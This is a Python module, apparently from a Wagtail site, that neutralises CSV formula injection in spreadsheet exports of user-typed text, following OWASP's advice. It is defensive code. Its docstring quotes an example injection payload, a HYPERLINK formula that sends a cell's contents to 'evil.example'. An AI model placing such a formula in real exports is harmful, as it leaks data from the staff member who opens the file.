"""Spreadsheet exports of text that people typed, made safe against formula (CSV) injection.

A spreadsheet program reads a cell that starts with ``=``, ``+``, ``-`` or ``@`` (also a tab or a carriage
return, and the full-width forms of the four signs) as a formula: an answer such as
``=HYPERLINK("https://evil.example/?"&A1, "click")`` would run on the computer of the staff member who
opens the export. Following OWASP's CSV-injection advice, such a text cell in a CSV file gets a leading
apostrophe, which spreadsheet programs show as text and never evaluate. In an XLSX file the cell type
says what it is: text cells are typed as strings, never as formulas, and keep their text unchanged.
"""

from wagtail.admin.views.mixins import SpreadsheetExportMixin

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


def neutralise(value):
    """The cell value, with an apostrophe in front of text a spreadsheet would read as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def neutralised(row) -> list:
    """A CSV row with every cell neutralised."""
    return [neutralise(value) for value in row]


def xlsx_row(sheet, row) -> list:
    """Cells for ``sheet.append`` on a write-only sheet: text is typed as a string, never a formula."""
    from openpyxl.cell import WriteOnlyCell

    cells = []
    for value in row:
        cell = WriteOnlyCell(sheet, value)
        if isinstance(value, str):
            cell.data_type = "s"
        cells.append(cell)
    return cells


class NeutralisedSpreadsheetExportMixin(SpreadsheetExportMixin):
    """Wagtail's spreadsheet export (e.g. form submissions) with CSV cells neutralised; Wagtail itself
    already turns XLSX cells that openpyxl would type as formulas back into strings."""

    def preprocess_field_value(self, field, value, export_format):
        value = super().preprocess_field_value(field, value, export_format)
        return neutralise(value) if export_format == self.FORMAT_CSV else value
